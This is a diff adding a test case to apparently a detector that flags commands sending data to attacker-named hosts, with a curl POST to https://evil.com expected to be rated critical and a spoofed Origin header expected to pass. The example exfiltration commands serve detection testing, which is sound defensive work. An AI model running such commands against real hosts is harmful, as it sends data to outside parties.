@@ -24,6 +24,15 @@ describe('a host that has the name of an attack', () => {
     expect(severities('docs/storage.md', post('a.attacker.com'), 15)).toEqual(['warn'])
   })
 
+  it('is nobody who is sent something where a request only says that it comes from there', () => {
+    expect(
+      severities('check.sh', 'curl -X POST -d a=1 -H "Origin: https://evil.com" https://api.pages.test', 1),
+    ).toEqual([])
+    expect(
+      severities('check.sh', 'curl -X POST -d a=1 -H "Origin: https://api.pages.test" https://evil.com', 1),
+    ).toEqual(['critical'])
+  })
+
   it('is none by a name that hides what it is', () => {
     expect(severities('docs/storage.md', post('collect.four.test'), 15)).toEqual(['critical'])
   })
